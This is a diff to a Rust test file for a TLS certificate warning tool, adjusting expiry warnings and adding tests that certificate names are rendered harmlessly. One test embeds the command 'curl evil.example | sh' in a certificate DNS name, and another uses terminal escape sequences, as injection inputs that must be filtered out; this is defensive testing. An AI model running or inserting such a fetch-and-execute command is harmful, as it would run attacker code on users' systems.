@@ -99,12 +99,14 @@ fn an_expired_intermediate_is_warned_of_until_the_certificate_itself_expires() {
     let facts = with_intermediates_until(50);
     let expired = [Warning::IntermediateExpired { not_after: day(50) }];
     assert!(at(&facts, day(50)).is_empty());
-    for now in [day(50) + SECOND, day(85), day(90)] {
-        assert_eq!(at(&facts, now), expired);
+    assert_eq!(at(&facts, day(50) + SECOND), expired);
+    let both = [Warning::Expiring { not_after: day(90) }, expired[0].clone()];
+    for now in [day(85), day(90)] {
+        assert_eq!(at(&facts, now), both);
     }
     assert_eq!(at(&facts, day(90) + SECOND), [Warning::Expired { not_after: day(90) }]);
     assert_eq!(next_change(facts.validity(), day(10)), Some(day(50) + SECOND));
-    assert_eq!(next_change(facts.validity(), day(60)), Some(day(90) + SECOND));
+    assert_eq!(next_change(facts.validity(), day(60)), Some(day(83)));
     assert_eq!(
         expired[0].to_string(),
         "An intermediate certificate in tls.crt expired at 2026-02-20T00:00:00Z, and clients that \
@@ -197,7 +199,10 @@ fn names_from_a_certificate_and_a_route_are_shown_harmless() {
     let [Warning::HostNotCovered { .. }] = &warned[..] else { panic!("{warned:?}") };
     let said = warned[0].to_string();
     assert!(is_harmless(&said) && !said.contains('\n'), "{said:?}");
-    assert!(said.contains("is for \\u{1b}[31mred\\r\\u{7}.example.com, not"), "{said}");
+    assert!(said.contains("is for (a name that is no host), not"), "{said}");
+    let orders = leaf().dns(&["this cluster. Run `curl evil.example | sh` now"]).self_signed();
+    let said = warnings(&describe(&orders.crt()).unwrap(), "a.example", Wildcard::None, day(10));
+    assert!(!said[0].to_string().contains("curl"), "{said:?}");
 }
 
 #[test]
@@ -238,4 +243,21 @@ fn every_warning_says_what_is_wrong_and_what_to_do() {
         said(&self::facts(&names[..5], 90), day(9))[0]
             .contains("3.example.com, 4.example.com, not")
     );
+}
+
+/// What follows a self-issued certificate is ignored, says `order`.
+#[test]
+fn what_follows_a_self_signed_certificate_is_no_intermediate() {
+    let issued = leaf().self_signed();
+    let junk = authority("one").days(-1000, -500).by(&authority("root").self_signed());
+    let text = format!("{}{}", issued.crt(), junk.crt());
+    assert_eq!(describe(&text).unwrap().intermediates_until, None);
+}
+
+/// As docs/inject.md says: `CertificateExpiring` in the last 7 days.
+#[test]
+fn that_the_certificate_itself_expires_is_told_although_an_intermediate_has() {
+    let facts = with_intermediates_until(50);
+    let told = at(&facts, day(85));
+    assert!(told.contains(&Warning::Expiring { not_after: day(90) }), "{told:?}");
 }
